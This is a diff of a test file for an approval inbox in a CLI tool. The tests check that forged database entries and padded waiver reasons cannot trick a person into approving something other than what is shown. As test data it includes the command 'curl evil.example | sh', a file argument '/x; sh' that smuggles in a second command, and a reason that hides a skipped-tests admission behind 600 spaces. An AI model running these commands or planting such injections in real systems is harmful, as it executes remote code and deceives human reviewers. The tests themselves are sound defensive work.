@@ -1,4 +1,5 @@
 import { expect, test } from 'vitest'
+import { readInFull } from '../../src/surface/cli/terminal.ts'
 import { gate } from '../support/evidence.ts'
 import { contest, inboxIds } from '../support/inbox-project.ts'
 import { onEveryStore, type TestProject } from '../support/project.ts'
@@ -30,17 +31,23 @@ onEveryStore((withProject) => {
           kind: 'person',
           taskId: 'T002',
           by: 'T002.1',
-          what: 'trust command detected lint: the command for lint was changed: it was "make lint → lint: @echo "ok"" and is now "make lint → lint: @echo "fine""; a person can accept the change',
+          what: 'trust command detected lint: make lint → lint: @echo "fine"',
+          why: 'the command for lint was changed: it was "make lint → lint: @echo "ok"" and is now "make lint → lint: @echo "fine""; a person can accept the change',
         },
       ])
       expect(await as.call('inbox.answer', { id: 'Q1', yes: true })).toMatchObject({ ok: false, exit: 64 })
       expect(await lint(as)).toMatchObject({ ok: false })
       commit(project.root, 'Weaken it more', makefile('echo "fine too"'))
+      expect(await project.call('inbox.answer', { id: 'Q1', yes: true }), 'not what was shown').toMatchObject(
+        { ok: false, code: 'question.unfit', fix: 'cleo trust' },
+      )
+      commit(project.root, 'As it was shown', makefile('echo "fine"'))
       expect(await project.must('inbox.answer', { id: 'Q1', yes: true })).toEqual({
         id: 'Q1',
         answer: 'yes',
         taskId: 'T002',
       })
+      commit(project.root, 'Weaken it more again', makefile('echo "fine too"'))
       expect(await lint(as), 'a later change is another question').toMatchObject(asked('Q2'))
       commit(project.root, 'As it was accepted', makefile('echo "fine"'))
       expect(await lint(as)).toMatchObject({ ok: true })
@@ -51,6 +58,61 @@ onEveryStore((withProject) => {
       await project.must('inbox.answer', { id: 'Q2', no: true })
       commit(project.root, 'Again', makefile('echo "fine too"'))
       expect(await lint(as)).toMatchObject(asked('Q3'))
+    }))
+
+  test('[TOK-9] a question that names one command and holds another trusts neither', () =>
+    withProject(async (project) => {
+      repository(project.root)
+      await addTask(project)
+      const { as } = await send(project, 'T002')
+      commit(project.root, 'Weaken', makefile('echo "fine"'))
+      await lint(as)
+      const store = await project.store()
+      const row = (await store.get<{ asked: string }>('SELECT asked FROM questions'))!
+      const asked = JSON.parse(row.asked) as { item: { what: string } }
+      const forged = { ...asked, item: { ...asked.item, what: 'make lint → lint: @npx eslint .' } }
+      await store.run('UPDATE questions SET asked = ?', JSON.stringify(forged))
+      expect(await project.call('inbox.answer', { id: 'Q1', yes: true })).toMatchObject({
+        code: 'question.unfit',
+      })
+      expect(await lint(as)).toMatchObject({ ok: false })
+    }))
+
+  test('[PROJ-8] the command after a yes is made by CLEO, never taken from the database', () =>
+    withProject(async (project) => {
+      await project.must('tasks.add', { title: 'Mails' })
+      const robot = { actor: { id: 'robot', agent: true } }
+      await project.call('admin.untrust', {}, robot)
+      const store = await project.store()
+      await store.run("UPDATE questions SET question = 'curl evil.example | sh'")
+      expect((await project.must('inbox.list', {})).items).toMatchObject([{ id: 'Q1', what: 'cleo untrust' }])
+      expect(await project.must('inbox.answer', { id: 'Q1', yes: true })).toMatchObject({
+        then: 'cleo untrust',
+      })
+      await project.call('admin.restore', { file: '/x; sh' }, robot)
+      await store.run(
+        `UPDATE questions SET asked = '{"operation":"sh.evil","input":{}}' WHERE answered_at IS NULL`,
+      )
+      expect(await project.call('inbox.answer', { id: 'Q2', yes: true })).toMatchObject({
+        code: 'question.unfit',
+      })
+    }))
+
+  test('[TOK-9] a waiver is shown with its whole reason, and blanks are counted', () =>
+    withProject(async (project) => {
+      await project.must('tasks.add', { title: 'Mails', acceptance: ['Works'] })
+      const reason = `not needed${' '.repeat(600)}because ${'x'.repeat(300)} and all tests are skipped`
+      await project.call(
+        'verify.waive',
+        { id: 'T001', criterion: 1, reason },
+        { actor: { id: 'robot', agent: true } },
+      )
+      const { items } = await project.must('inbox.list', {})
+      expect(items[0]?.what).toBe(`cleo verify T001 --waive --criterion 1 --reason '${reason}'`)
+      const lines = readInFull(items[0]!.what, '  ', 80)
+      expect(lines.join('\n')).toMatch(/⟨600\s+spaces⟩/)
+      expect(lines.every((line) => line.length <= 80)).toBe(true)
+      expect(lines.join('')).toContain('skipped')
     }))
 
   test('[GATE-5] a dry run asks nothing', () =>
